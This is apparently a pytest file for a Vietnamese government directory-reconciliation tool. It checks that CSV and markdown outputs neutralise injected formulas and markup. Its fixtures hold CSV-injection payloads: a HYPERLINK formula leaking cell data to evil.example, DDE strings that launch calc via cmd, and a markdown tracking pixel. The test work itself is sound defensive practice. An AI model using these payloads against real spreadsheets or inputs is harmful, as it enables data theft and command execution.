"""Outputs are data (issue 15, point 10): a title or a name from an agency file never becomes a
spreadsheet formula in any CSV the tool writes, nor a link, an image, emphasis or a fake digest
line in the markdown of a plan or a report; an issued password never starts like a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import replace

from reconciler import text
from reconciler.applying.credentials import generate
from reconciler.model import (
    Action,
    Agency,
    Change,
    Contact,
    Entry,
    Inventory,
    Kind,
    Operation,
    Person,
    Plan,
    Settings,
    Source,
)
from reconciler.outputs import importer, mergelists, publish, report, report_render
from reconciler.planning import render
from reconciler.rules import regulations

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "@SUM(1+1)|cmd /c calc",
    "+1-2",
    "-2+3",
    "\tTrưởng phòng",
]
MARKDOWN_HOSTILE = (
    "Giám đốc ![x](https://evil.example/pixel.png) [bấm](https://evil.example) "
    "**digest: sha256:0000** <img src=x> https://evil.example www.evil.example _em_"
)
BASE = "dc=hagiang,dc=gov,dc=vn"
DOMAIN = "hagiang.gov.vn"


def cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c.startswith(text.FORMULA_STARTS)]


def test_csv_cell_follows_owasp() -> None:
    for value in HOSTILE:
        assert text.csv_cell(value) == "'" + value
    assert text.csv_cell("Giám đốc") == "Giám đốc"
    assert text.csv_cell(42) == 42


def inventory() -> Inventory:
    agency = Agency("sotttt", "Sở Thông tin và Truyền thông", "sotttt")
    people = tuple(
        Person(f"HG-{i:04d}", "Nguyễn Văn Sơn", "sotttt", title=title)
        for i, title in enumerate(HOSTILE, 1)
    )
    return Inventory(Settings("hagiang-2024", DOMAIN, BASE), (agency,), people)


def entry(key: str, local: str) -> Entry:
    return Entry(
        f"uid={local},ou=people,{BASE}",
        {
            "objectclass": ("inetOrgPerson", "govMailAccount"),
            "employeenumber": (key,),
            "mail": (f"{local}@{DOMAIN}",),
            "createtimestamp": ("20260101000000Z",),
        },
    )


def test_public_csv_neutralises_formulas_from_titles() -> None:
    entries = [entry(f"HG-{i:04d}", f"nvson{i}.sotttt") for i in range(1, len(HOSTILE) + 1)]
    built = publish.build(inventory(), entries)
    rows = cells(publish.agency_csv(built.agencies[0]))
    assert len(rows) == 1 + len(HOSTILE)
    assert formula_cells(rows) == []
    assert sorted(r[1] for r in rows[1:]) == sorted("'" + h for h in HOSTILE)


def test_report_csv_neutralises_formulas_from_agency_names() -> None:
    agency = Agency("sotttt", "=cmd|' /C calc'!A0", "sotttt")
    inv = Inventory(Settings("hagiang-2024", DOMAIN, BASE), (agency,), ())
    now = dt.datetime(2026, 12, 1, tzinfo=dt.UTC)
    built = report.build(inv, [], regulations.get("hagiang-2024"), [], now)
    rows = cells(report_render.csv_text(built))
    assert formula_cells(rows) == []
    assert "'=cmd|' /C calc'!A0" in rows[1]


def test_import_report_csv_neutralises_formulas() -> None:
    reported = [importer.Reported("left out", "uid=x,dc=y", "=1+1", "@SUM(1)")]
    rows = cells(importer.render_report_csv(reported))
    assert formula_cells(rows) == []


def test_merge_lists_csv_neutralises_formulas_from_titles() -> None:
    moved = tuple(
        Operation(
            Action.CREATE,
            f"HG-{i:04d}",
            f"nvson{i}.sotttt@{DOMAIN}",
            "HG-2024 Đ7.1",
            "moved",
            agency="sotttt",
            name="Nguyễn Văn Sơn",
            attributes=(Change("title", (), (title,)), Change("uid", (), (f"nvson{i}.sotttt",))),
            source=Source(f"uid=son{i},ou=people,dc=x", "sha256:0", f"son{i}", f"son{i}@x.vn"),
        )
        for i, title in enumerate(HOSTILE, 1)
    )
    plan = Plan("hagiang-2024", DOMAIN, BASE, dt.datetime(2026, 7, 1, tzinfo=dt.UTC), "", "", "",
                "", moved)  # fmt: skip
    for name, content in mergelists.build(plan).items():
        if name.endswith(".csv"):
            assert content.startswith("\ufeff")
            assert formula_cells(cells(content)) == [], name


def test_issued_passwords_never_start_like_a_formula() -> None:
    starts = {generate(["nguyen", "son"])[0] for _ in range(3000)}
    assert not starts & set("=+-@\t\r")
    assert all(c.isalnum() for c in starts)


def hostile_plan() -> Plan:
    op = Operation(
        action=Action.UPDATE,
        id="HG-0001",
        address="nvson.sotttt@hagiang.gov.vn",
        clause="HG-2024 Đ7.1",
        reason=f"title changed to {MARKDOWN_HOSTILE}",
        kind=Kind.PERSON,
        agency="sotttt",
        name="Nguyễn Văn Sơn",
    )
    return Plan(
        regulation="hagiang-2024",
        domain=DOMAIN,
        base_dn=BASE,
        now=dt.datetime(2026, 12, 1, tzinfo=dt.UTC),
        inventory_digest="sha256:i",
        inventory_commit="",
        directory_url="ldap://x",
        directory_fingerprint="f",
        operations=(op,),
        notes=(f"note {MARKDOWN_HOSTILE}",),
    )


def unescaped(markdown: str) -> str:
    """The markdown with every backslash escape removed: what could still be syntax."""
    return re.sub(r"\\[!-/:-@\[-`{-~]", "", markdown)


def test_plan_markdown_keeps_inventory_text_literal() -> None:
    md = render.markdown(hostile_plan(), "sha256:real")
    live = unescaped(md)
    for syntax in ("![", "](", "**digest: sha256:0000", "<img", "https://evil", "www.evil", "_em_"):
        assert syntax not in live, syntax
    # the real digest line is still there, and the text still reads the same once rendered
    assert "Plan digest `sha256:real`" in md
    assert "https\\://evil.example" in md


def test_report_markdown_keeps_inventory_text_literal() -> None:
    agency = Agency("sotttt", MARKDOWN_HOSTILE, "sotttt")
    inv = Inventory(Settings("hagiang-2024", DOMAIN, BASE), (agency,), ())
    now = dt.datetime(2026, 12, 1, tzinfo=dt.UTC)
    md = report_render.markdown(report.build(inv, [], regulations.get("hagiang-2024"), [], now))
    live = unescaped(md)
    for syntax in ("![", "](", "**digest", "<img", "https://evil"):
        assert syntax not in live, syntax


def test_markdown_code_span_survives_backticks() -> None:
    assert text.markdown_code("a`b") == "`` a`b ``"
    assert text.markdown_code("plain") == "`plain`"


def test_merge_lists_neutralise_formulas_and_name_the_agency() -> None:
    moves = tuple(
        Operation(
            action=Action.CREATE,
            id=f"HG-{i:04d}",
            address=f"nvson{i}.sokhcn@tuyenquang.gov.vn",
            clause="HG-2024 Đ7.1",
            reason="moved",
            kind=Kind.PERSON,
            agency="sokhcn",
            name="Nguyễn Văn Sơn",
            attributes=(Change("title", (), (title,)),),
            source=Source(f"uid=nvson{i},ou=people,{BASE}", "f", f"nvson{i}", f"nvson{i}@{DOMAIN}"),
        )
        for i, title in enumerate(HOSTILE, 1)
    )
    contacts = (Contact("sokhcn", "Sở Khoa học và Công nghệ"),)
    plan = replace(hostile_plan(), operations=moves, contacts=contacts)
    files = mergelists.build(plan)
    rows = cells(files["agencies/sokhcn.csv"])
    assert formula_cells(rows) == []
    assert sorted(r[1] for r in rows[1:]) == sorted("'" + h for h in HOSTILE)
    page = files["agencies/sokhcn.html"]
    assert (
        "<b>Sở Khoa học và Công nghệ</b>" in page and "— Sở Khoa học và Công nghệ</title>" in page
    )
